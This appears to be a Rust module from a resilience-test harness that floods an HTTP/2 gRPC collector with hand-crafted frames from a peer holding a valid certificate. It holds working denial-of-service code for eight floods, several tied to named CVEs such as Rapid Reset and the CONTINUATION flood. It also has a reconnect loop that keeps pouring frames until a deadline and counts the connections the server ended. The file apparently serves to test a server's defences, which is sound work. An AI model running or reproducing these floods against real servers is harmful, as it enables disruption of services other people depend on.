//! Floods of HTTP/2 (RFC 9113) by hand-made frames, from a peer that has a valid certificate: the
//! worst of strangers. Each names what it would exhaust.

use std::net::{IpAddr, SocketAddr};
use std::time::{Duration, Instant};

use anyhow::Result;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::peer::{H2, Identity, REPORT, connect};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Frames that are written in one go.
const BATCH: usize = 256;
/// Pause before another connection, after the server ended one.
const RECONNECT_PAUSE: Duration = Duration::from_millis(50);

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;

/// What is sent without an end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    /// Requests, each reset at once (CVE-2023-44487): work that nobody waits for.
    RapidReset,
    /// SETTINGS, each of which has to be acknowledged (CVE-2019-9515).
    Settings,
    /// PING, each of which has to be answered (CVE-2019-9512), and nothing is ever read.
    Ping,
    /// DATA frames without data (CVE-2019-9518).
    EmptyData,
    /// One header block without an end (CVE-2024-27316): memory.
    Continuation,
    /// Requests whose headers are larger than is accepted.
    HugeHeaders,
    /// Priorities of streams that do not exist.
    Priority,
    /// Window updates until the window overflows.
    WindowUpdate,
}

impl Flood {
    /// All of them.
    pub const ALL: [Self; 8] = [
        Self::RapidReset,
        Self::Settings,
        Self::Ping,
        Self::EmptyData,
        Self::Continuation,
        Self::HugeHeaders,
        Self::Priority,
        Self::WindowUpdate,
    ];

    /// Whether HTTP/2 has the server end such a connection, rather than bear it.
    pub const fn breaks_rules(self) -> bool {
        match self {
            Self::RapidReset | Self::Continuation | Self::WindowUpdate => true,
            Self::Settings | Self::Ping | Self::EmptyData | Self::HugeHeaders | Self::Priority => {
                false
            }
        }
    }

    /// What comes once, before the flood.
    fn opening(self) -> Vec<u8> {
        match self {
            Self::EmptyData => headers(1, END_HEADERS, &block(0)),
            Self::Continuation => headers(1, 0, &block(0)),
            _ => Vec::new(),
        }
    }

    /// One frame, or a group of them, for the stream with this number.
    fn frames(self, stream: u32) -> Vec<u8> {
        let odd = stream * 2 + 1;
        match self {
            Self::RapidReset => {
                let mut frames = headers(odd, END_HEADERS, &block(0));
                frames.extend(frame(RST_STREAM, 0, odd, &8_u32.to_be_bytes()));
                frames
            }
            Self::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]),
            Self::Ping => frame(PING, 0, 0, &u64::from(stream).to_be_bytes()),
            Self::EmptyData => frame(DATA, 0, 1, &[]),
            Self::Continuation => frame(CONTINUATION, 0, 1, &field("x-filler", 120)),
            Self::HugeHeaders => headers(odd, END_HEADERS, &block(100)),
            Self::Priority => frame(PRIORITY, 0, odd, &[0, 0, 0, 0, 16]),
            Self::WindowUpdate => frame(WINDOW_UPDATE, 0, 0, &0x3fff_ffff_u32.to_be_bytes()),
        }
    }
}

/// What was sent.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct Poured {
    /// Connections that were opened.
    pub connections: u64,
    /// Of those, so many the server ended.
    pub ended_by_server: u64,
    /// Bytes that it took.
    pub bytes: u64,
}

/// Sends a flood over one connection after the other until the moment; a connection that is not
/// made is tried again.
///
/// # Errors
/// What goes wrong otherwise than by the server's doing.
pub async fn pour(
    flood: Flood,
    from: IpAddr,
    to: SocketAddr,
    identity: &Identity,
    until: Instant,
) -> Result<Poured> {
    let mut poured = Poured::default();
    let deadline = tokio::time::Instant::from_std(until);
    while Instant::now() < until {
        // Busy with the others of the flood; the caller looks whether any got through.
        let Ok(stream) = connect(from, to, Some(identity), &[H2]).await else {
            tokio::time::sleep(RECONNECT_PAUSE).await;
            continue;
        };
        poured.connections += 1;
        let (mut read, mut write) = tokio::io::split(stream);
        let sending = async {
            let opening = [PREFACE, &frame(SETTINGS, 0, 0, &[]), &flood.opening()].concat();
            write.write_all(&opening).await?;
            for first in (0_u32..).step_by(BATCH) {
                let batch: Vec<u8> =
                    (first..first + BATCH as u32).flat_map(|stream| flood.frames(stream)).collect();
                write.write_all(&batch).await?;
                write.flush().await?;
                poured.bytes += batch.len() as u64;
            }
            Ok::<_, std::io::Error>(())
        };
        let reading = async {
            let mut answer = [0; 4096];
            // Whoever never reads is the worse peer of the two.
            while flood != Flood::Ping && read.read(&mut answer).await.is_ok_and(|n| n > 0) {}
            if flood == Flood::Ping {
                std::future::pending::<()>().await;
            }
        };
        tokio::select! {
            () = tokio::time::sleep_until(deadline) => return Ok(poured),
            _ = sending => poured.ended_by_server += 1,
            () = reading => poured.ended_by_server += 1,
        }
        tokio::time::sleep(RECONNECT_PAUSE).await;
    }
    Ok(poured)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn headers(stream: u32, flags: u8, block: &[u8]) -> Vec<u8> {
    frame(HEADERS, flags, stream, block)
}

/// The head of a report, and so many fields of 120 bytes behind it.
fn block(fillers: usize) -> Vec<u8> {
    let mut block = Vec::new();
    for (name, value) in [
        (":method", "POST"),
        (":scheme", "https"),
        (":path", REPORT),
        (":authority", "collector"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ] {
        block.extend(literal(name, value));
    }
    for _ in 0..fillers {
        block.extend(field("x-filler", 120));
    }
    block
}

fn field(name: &str, bytes: usize) -> Vec<u8> {
    literal(name, &"v".repeat(bytes))
}

/// A header field that is not indexed (RFC 7541, section 6.2.2); lengths below 127.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let length = |text: &str| u8::try_from(text.len()).expect("names and values are short");
    [&[0, length(name)], name.as_bytes(), &[length(value)], value.as_bytes()].concat()
}
